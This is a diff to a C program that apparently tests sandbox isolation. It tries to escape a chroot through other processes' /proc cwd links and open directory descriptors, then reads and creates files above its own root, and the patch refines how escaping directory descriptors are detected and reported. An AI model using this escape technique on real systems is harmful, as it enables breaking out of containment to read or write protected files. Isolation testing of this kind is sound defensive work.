@@ -8,7 +8,8 @@
  *   /proc/PID/cwd/../../..MARKER
  *   every /proc/PID/fd/N: opened; a directory is walked up to MARKER
  * and to create a file next to it (MARKER.PID.how). Each success is a line
- * "READ how pid: content", "CREATED how pid" or "DIRFD pid fd: target";
+ * "READ how pid: content", "CREATED how pid" or "DIRFD pid fd: target" (a
+ * directory fd from which ".." leads above our own root);
  * at the end "seen N" (new pids looked at). Stops when STOPFILE exists
  * (or after 600 s). */
 #include <dirent.h>
@@ -27,6 +28,7 @@
 static unsigned char tries[MAX_PID];
 static const char *marker;
 static char up[32 * 3 + 1]; /* "../" x 32: to the top from anywhere */
+static struct stat own_root;
 
 static void try_read(int dirfd, const char *path, const char *how, int pid)
 {
@@ -81,12 +83,21 @@ static void attack_fds(int pid)
                         continue;
                 struct stat st;
                 if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
-                        char target[256] = "";
-                        ssize_t n = readlink(p, target, sizeof target - 1);
-                        target[n > 0 ? n : 0] = '\0';
-                        printf("DIRFD %d %s: %s\n", pid, e->d_name, target);
-                        fflush(stdout);
                         attack_dir(fd, "fd", pid, 1);
+                        /* A directory of our own tree is no way out: from
+                         * it, ".." stops at our root. */
+                        int top = openat(fd, up, O_PATH | O_DIRECTORY | O_CLOEXEC);
+                        struct stat t;
+                        if (top >= 0 && fstat(top, &t) == 0 &&
+                            (t.st_dev != own_root.st_dev || t.st_ino != own_root.st_ino)) {
+                                char target[256] = "";
+                                ssize_t n = readlink(p, target, sizeof target - 1);
+                                target[n > 0 ? n : 0] = '\0';
+                                printf("DIRFD %d %s: %s\n", pid, e->d_name, target);
+                                fflush(stdout);
+                        }
+                        if (top >= 0)
+                                close(top);
                 }
                 close(fd);
         }
@@ -144,6 +155,8 @@ int main(int argc, char **argv)
                 return 2;
         }
         marker = argv[1];
+        if (stat("/", &own_root) < 0)
+                return 2;
         for (int i = 0; i < 32; i++)
                 memcpy(up + 3 * i, "../", 3);
         long seen = 0;
